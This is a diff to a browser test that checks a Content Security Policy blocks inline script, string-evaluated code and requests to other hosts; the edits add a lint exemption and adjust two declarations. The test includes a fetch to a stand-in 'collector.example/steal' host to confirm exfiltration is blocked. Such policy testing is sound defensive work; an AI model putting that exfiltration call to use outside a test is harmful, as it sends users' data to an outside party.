@@ -29,8 +29,9 @@ test('the policy is in force: inline script, eval, plugins and other hosts are b
     document.body.append(s);
     // A string run as code (the page's own timer, not this test's evaluation, which DevTools exempts).
     const t = window as Window & { __fromString?: boolean };
+    // eslint-disable-next-line @typescript-eslint/no-implied-eval -- a string run as code is what the policy must stop
     setTimeout('window.__fromString = true', 0);
-    let fetched = false;
+    let fetched: boolean;
     try {
       await fetch('https://collector.example/steal');
       fetched = true;
@@ -68,7 +69,7 @@ function watch(page: Page): { requests: Seen[]; lines: string[] } {
   const lines: string[] = [];
   const record = (r: Request) => {
     const url = new URL(r.url());
-    let body = '';
+    let body: string;
     try {
       body = r.postDataBuffer()?.toString('latin1') ?? '';
     } catch {
